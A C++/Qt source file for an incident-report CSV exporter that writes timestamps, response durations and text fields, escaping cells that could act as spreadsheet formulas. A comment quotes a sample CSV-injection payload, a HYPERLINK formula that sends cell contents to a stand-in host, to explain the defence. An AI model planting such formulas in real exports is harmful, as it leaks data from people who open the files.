#include "history/IncidentCsvWriter.h"

#include <QDateTime>
#include <QIODevice>
#include <QSaveFile>

#include <cmath>

IncidentCsvWriter::IncidentCsvWriter(const QTimeZone& zone)
    : m_zone(zone.isValid() ? zone : QTimeZone::systemTimeZone())
{}

QStringList IncidentCsvWriter::header()
{
    // Stable keys, not translated: scripts read them by name.
    return {
        QStringLiteral("reference"),
        QStringLiteral("title"),
        QStringLiteral("severity"),
        QStringLiteral("status"),
        QStringLiteral("declared_at"),
        QStringLiteral("started_at"),
        QStringLiteral("detected_at"),
        QStringLiteral("acknowledged_at"),
        QStringLiteral("mitigated_at"),
        QStringLiteral("resolved_at"),
        QStringLiteral("ttd_seconds"),
        QStringLiteral("ttd_minutes"),
        QStringLiteral("tta_seconds"),
        QStringLiteral("tta_minutes"),
        QStringLiteral("ttm_seconds"),
        QStringLiteral("ttm_minutes"),
        QStringLiteral("ttr_seconds"),
        QStringLiteral("ttr_minutes"),
        QStringLiteral("affected_services"),
        QStringLiteral("commander"),
        QStringLiteral("drill"),
    };
}

QString IncidentCsvWriter::quoted(const QString& field)
{
    const bool needsQuotes = field.contains(QLatin1Char(',')) || field.contains(QLatin1Char('"')) ||
                             field.contains(QLatin1Char('\n')) || field.contains(QLatin1Char('\r'));
    if (!needsQuotes)
        return field;
    QString escaped = field;
    escaped.replace(QLatin1String("\""), QLatin1String("\"\""));
    return QLatin1Char('"') + escaped + QLatin1Char('"');
}

QString IncidentCsvWriter::textCell(const QString& text)
{
    // Spreadsheets run a cell that starts with = + - or @ as a formula: a title such as
    // "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" would, once the file is opened, leak other cells
    // or run commands (CSV injection). Titles, names and services come from people and from alerts, so a
    // leading quote makes such a cell plain text; spreadsheets hide the quote. A tab or a carriage return
    // in first place is treated alike (OWASP's list). Only text cells are defused: our own numbers (a
    // negative span) must stay numbers.
    static const QString triggers = QStringLiteral("=+-@\t\r");
    if (!text.isEmpty() && triggers.contains(text.front()))
        return quoted(QLatin1Char('\'') + text);
    return quoted(text);
}

QString IncidentCsvWriter::timeCell(qint64 atMs) const
{
    if (atMs == 0)
        return QString();
    const QDateTime local = QDateTime::fromMSecsSinceEpoch(atMs, m_zone);
    // Written by hand rather than with Qt::ISODate, which says "Z" for UTC: one shape for every zone.
    const int offset = local.offsetFromUtc();
    const int minutes = std::abs(offset) / 60;
    return local.toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss")) +
           (offset < 0 ? QLatin1Char('-') : QLatin1Char('+')) +
           QStringLiteral("%1:%2")
               .arg(minutes / 60, 2, 10, QLatin1Char('0'))
               .arg(minutes % 60, 2, 10, QLatin1Char('0'));
}

QString IncidentCsvWriter::secondsCell(std::optional<qint64> spanMs)
{
    if (!spanMs)
        return QString();
    // Rounded to the nearest second, halves away from zero, so that -90.5 s and 90.5 s mirror each other.
    return QString::number(std::llround(double(*spanMs) / 1000.0));
}

QString IncidentCsvWriter::minutesCell(std::optional<qint64> spanMs)
{
    if (!spanMs)
        return QString();
    // QString::number ignores the locale: always a dot, never a group separator.
    return QString::number(double(*spanMs) / 60'000.0, 'f', 2);
}

QByteArray IncidentCsvWriter::toCsv(const QList<Incident>& incidents) const
{
    const QString crlf = QStringLiteral("\r\n");
    QString out = header().join(QLatin1Char(',')) + crlf;
    for (const Incident& incident : incidents) {
        const KeyMoments& moments = incident.moments;
        QStringList services;
        for (const AffectedService& service : incident.affected)
            services.append(service.serviceName);
        const QStringList fields{
            textCell(incident.reference),
            textCell(incident.title),
            severityLabel(incident.severity),
            incidentStatusKey(incident.status),
            timeCell(incident.declaredAtMs),
            timeCell(moments.startedMs),
            timeCell(moments.detectedMs),
            timeCell(moments.acknowledgedMs),
            timeCell(moments.mitigatedMs),
            timeCell(moments.resolvedMs),
            secondsCell(moments.timeToDetectMs()),
            minutesCell(moments.timeToDetectMs()),
            secondsCell(moments.timeToAcknowledgeMs()),
            minutesCell(moments.timeToAcknowledgeMs()),
            secondsCell(moments.timeToMitigateMs()),
            minutesCell(moments.timeToMitigateMs()),
            secondsCell(moments.timeToResolveMs()),
            minutesCell(moments.timeToResolveMs()),
            textCell(services.join(QStringLiteral("; "))),
            textCell(incident.commander),
            incident.drill ? QStringLiteral("true") : QStringLiteral("false"),
        };
        out += fields.join(QLatin1Char(',')) + crlf;
    }
    return out.toUtf8();
}

bool IncidentCsvWriter::write(const QList<Incident>& incidents, QIODevice* device)
{
    m_error.clear();
    if (!device || !device->isWritable()) {
        m_error = tr("Cannot write the incidents: the file is not open for writing.");
        return false;
    }
    const QByteArray bytes = toCsv(incidents);
    if (device->write(bytes) != bytes.size()) {
        m_error = tr("Cannot write the incidents: %1").arg(device->errorString());
        return false;
    }
    return true;
}

bool IncidentCsvWriter::writeFile(const QList<Incident>& incidents, const QString& path)
{
    m_error.clear();
    QSaveFile file(path);
    if (!file.open(QIODevice::WriteOnly)) {
        m_error = tr("Cannot open %1: %2").arg(path, file.errorString());
        return false;
    }
    if (!write(incidents, &file))
        return false;
    if (!file.commit()) {
        m_error = tr("Cannot save %1: %2").arg(path, file.errorString());
        return false;
    }
    return true;
}
